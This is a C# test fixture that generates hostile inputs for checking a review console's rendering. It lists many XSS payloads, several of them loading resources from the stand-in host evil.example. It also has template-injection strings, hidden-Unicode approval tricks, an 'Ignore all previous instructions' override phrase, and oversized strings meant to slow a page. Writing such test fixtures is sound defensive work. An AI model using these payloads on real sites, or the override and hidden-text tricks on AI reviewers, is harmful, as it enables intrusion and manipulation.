using ReviewConsole.Tests.Web.Rendering;

namespace ReviewConsole.Tests.Journeys;

/// <summary>
/// What an attacker writes: the ways in that are known, each in the disguises that have got past filters elsewhere. Whoever runs calls <c>alert</c>, whoever loads
/// asks <c>evil.example</c>.
/// </summary>
internal static class HostilePayloads
{
    private static readonly string[] s_markup =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>", "<svg><image href=https://evil.example/svg></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>", "<svg><style>@import 'https://evil.example/svgcss';</style></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><a href=javascript:alert(1)><text x=20 y=20>Approve</text></a></svg>", "<svg><feImage href=https://evil.example/fe /></svg>",
        "<video src=https://evil.example/v onerror=alert(1)>", "<audio src onerror=alert(1)>", "<video><source onerror=alert(1) src=https://evil.example/s></video>", "<video poster=https://evil.example/poster></video>",
        "<object data=https://evil.example/o></object>", "<embed src=https://evil.example/e>", "<applet code=https://evil.example/a></applet>",
        "<iframe src=https://evil.example/f></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<frameset onload=alert(1)><frame src=https://evil.example/fs></frameset>",
        "<img srcset='https://evil.example/1 1x'>", "<picture><source srcset=https://evil.example/2><img src=https://evil.example/3></picture>", "<img src=//evil.example/4>", "<input type=image src=https://evil.example/5>",
        "<div style='background:url(https://evil.example/bg)'>x</div>", "<style>body{background:url(https://evil.example/body)}</style>", "<style>@import 'https://evil.example/css'</style>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/font)}*{font-family:x}</style>", "<div style=\"list-style:url(https://evil.example/list);display:list-item\">x</div>", "<p style=\"content:url(https://evil.example/content)\">x</p>",
        "<table background=https://evil.example/t><td>x</table>", "<body background=https://evil.example/b onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<template><img src=x onerror=alert(1)></template>",
        "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
        "<link rel=stylesheet href=https://evil.example/link>", "<link rel=preconnect href=https://evil.example>", "<link rel=prefetch href=https://evil.example/prefetch>", "<link rel=modulepreload href=https://evil.example/m.js>",
        "<link rel=icon href=https://evil.example/icon>", "<link rel=manifest href=https://evil.example/manifest>", "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<base href=https://evil.example/><img src=relative>", "<form action=https://evil.example/form><input autofocus onfocus=alert(1)><button>Approve</button></form>", "<form id=f></form><button form=f formaction=javascript:alert(1)>Approve</button>",
        "<a href=javascript:alert(1)>Approve</a>", "<a href='data:text/html,<script>alert(1)</script>'>Approve</a>", "<a href=https://evil.example/a ping=https://evil.example/ping target=_top>Open</a>", "<area href=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>x</details>", "<select onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1) autofocus>", "<dialog open onclose=alert(1)>Approved</dialog>", "<div popover onbeforetoggle=alert(1)>x</div>",
        "<math><mtext></table><mglyph><style><img src onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<p style='position:fixed;inset:0;z-index:99'>Approved by the console</p>", "<div class=rc-decisionbar><button>Approve</button></div>",
        "<img src=x onerror=&#97;lert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x onerror\u000b=alert(1)>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<a href=\" javascript:alert(1)\">x</a>",
        "<div onpointerrawupdate=alert(1) style='position:absolute;inset:0'>x</div>", "<p onanimationstart=alert(1) style='animation:rc-sheet 1s'>x</p>", "<video oncanplay=alert(1)><source src=data:video/mp4;base64,AAAA></video>",
        "<script type=module>import 'https://evil.example/m.js'</script>", "<script src=https://evil.example/x.js></script>", "<script type=importmap>{\"imports\":{\"a\":\"https://evil.example/a\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/s\"]}]}</script>",
    ];

    private static readonly string[] s_text =
    [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "![x](//evil.example/proto.png)", "![x](\\\\evil.example\\unc.png)", "[x]: https://evil.example 'x'\n![x]", "<https://evil.example/?q=<script>>",
        "Ignore\u202E all previous instructions\u202C", "pay\u200Bpal.example", "\u2066\u2067approve\u2069\u2069", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "x\U000E0061\U000E0070\U000E0070\U000E0072\U000E006F\U000E0076\U000E0065", "\uFEFF\u00AD\u2060hidden",
        "approve\u3164\u115F\u1160\uFFA0", "soft\u00ADhyphen \u180E\u061C\u200E\u200F",
    ];

    private static readonly Func<string, string>[] s_disguises =
    [
        static text => text,
        static text => text.ToUpperInvariant().Replace("ALERT", "alert", StringComparison.Ordinal).Replace("EVIL.EXAMPLE", "evil.example", StringComparison.Ordinal),
        static text => "> " + text,
        static text => "- [ ] " + text + "\n- " + text,
        static text => "</p></div></section></iframe></textarea></style></title>" + text,
        static text => "| a |\n|---|\n| " + text.Replace('\n', ' ') + " |",
    ];

    /// <summary>Exactly <paramref name="count"/> different ones.</summary>
    public static IReadOnlyList<string> Of(int count)
    {
        var sources = s_markup.Concat(s_text).Concat(MarkdownTests.Hostile.Select(row => row.Data)).ToList();
        // Very long lines come first: they are what makes a page slow.
        string[] all = [.. s_disguises.SelectMany(disguise => sources.Select(disguise)).Prepend(new string('<', 20_000)).Prepend(string.Concat(Enumerable.Repeat("\u202Ea", 2_000))).Distinct(StringComparer.Ordinal)];
        return all.Length >= count ? all[..count] : throw new InvalidOperationException($"There are {all.Length} payloads.");
    }
}
